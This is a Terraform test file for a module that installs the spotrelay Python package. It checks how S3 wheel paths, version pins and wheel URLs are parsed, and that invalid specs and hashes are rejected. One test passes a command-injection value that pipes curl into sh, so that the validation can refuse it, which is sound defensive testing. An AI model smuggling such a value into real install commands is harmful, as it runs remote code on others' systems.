# Offline tests of how both roles read the spotrelay package (no provider,
# nothing created): the forms of the spec, and the checks every caller's spec
# and hash go through.

variables {
  pip_spec = "s3://llm-artifacts/spotrelay/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/spotrelay-0.1.0-py3-none-any.whl"
  sha256   = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
}

run "a_wheel_in_s3" {
  command = apply

  assert {
    condition     = output.requirement == var.pip_spec && output.s3_object == "llm-artifacts/spotrelay/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/spotrelay-0.1.0-py3-none-any.whl"
    error_message = "The S3 wheel is fetched as given; the instance role may read that one object."
  }

  assert {
    condition     = startswith(output.fetch_script, "#!/bin/bash") && strcontains(output.fetch_script, "sha256sum")
    error_message = "The fetcher is the one script that checks the sha256."
  }
}

run "a_version_a_requirement_and_a_url" {
  command = apply

  variables {
    pip_spec = "0.2.0"
  }

  assert {
    condition     = output.requirement == "spotrelay==0.2.0" && output.s3_object == null
    error_message = "A bare version is an index pin, with no S3 access."
  }
}

run "a_wheel_url" {
  command = apply

  variables {
    pip_spec = "https://example.com/spotrelay-0.1.0-py3-none-any.whl"
  }

  assert {
    condition     = output.requirement == "spotrelay @ https://example.com/spotrelay-0.1.0-py3-none-any.whl"
    error_message = "A wheel URL becomes a direct reference."
  }
}

run "rejects_quote_in_pip_spec" {
  command = plan

  variables {
    pip_spec = "spotrelay'; curl x | sh; '"
  }

  expect_failures = [var.pip_spec]
}

run "rejects_s3_package_that_is_not_a_wheel" {
  command = plan

  variables {
    pip_spec = "s3://my-artifacts/spotrelay/"
  }

  expect_failures = [var.pip_spec]
}

run "rejects_a_malformed_hash" {
  command = plan

  variables {
    sha256 = "abc"
  }

  expect_failures = [var.sha256]
}
